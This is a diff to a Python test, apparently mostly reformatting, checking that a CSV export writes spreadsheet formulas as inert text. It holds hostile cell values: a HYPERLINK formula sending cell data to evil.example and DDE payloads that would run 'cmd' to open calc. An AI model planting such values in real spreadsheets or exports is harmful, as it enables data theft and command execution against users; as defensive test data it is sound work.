@@ -318,7 +318,7 @@ def test_export_is_for_admins_only(tmp_path: Path) -> None:
 def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(app: App, tmp_path: Path) -> None:
     populate(app)
     hostile = {
-        "name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        "name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
         "title": "+1+cmd|' /C calc'!A0",
         "department": "-2+3",
         "personal_notes": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -331,12 +331,18 @@ def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(app: 
 
     export_all(app, tmp_path / "out", fmt="csv", actor=OPERATOR)
 
-    contact = next(csv.DictReader(io.StringIO((tmp_path / "out" / "contact.csv").read_bytes().decode("utf-8-sig"))))
+    contact = next(
+        csv.DictReader(io.StringIO((tmp_path / "out" / "contact.csv").read_bytes().decode("utf-8-sig")))
+    )
     assert {k: contact[k] for k in hostile} == {k: "'" + v for k, v in hostile.items()}
-    accounts = list(csv.DictReader(io.StringIO((tmp_path / "out" / "account.csv").read_bytes().decode("utf-8-sig"))))
+    accounts = list(
+        csv.DictReader(io.StringIO((tmp_path / "out" / "account.csv").read_bytes().decode("utf-8-sig")))
+    )
     assert [a["industry"] for a in accounts] == ["'\r=1+1", "'\t=1+1"]
     stock = next(
-        csv.DictReader(io.StringIO((tmp_path / "out" / "inventory_observation.csv").read_bytes().decode("utf-8-sig")))
+        csv.DictReader(
+            io.StringIO((tmp_path / "out" / "inventory_observation.csv").read_bytes().decode("utf-8-sig"))
+        )
     )
     assert stock["quantity"] == "12.500"  # numbers stay numbers, a negative one too
     assert [neutralise(v) for v in ("-4.20", "+86", "-", "==")] == ["-4.20", "+86", "'-", "'=="]
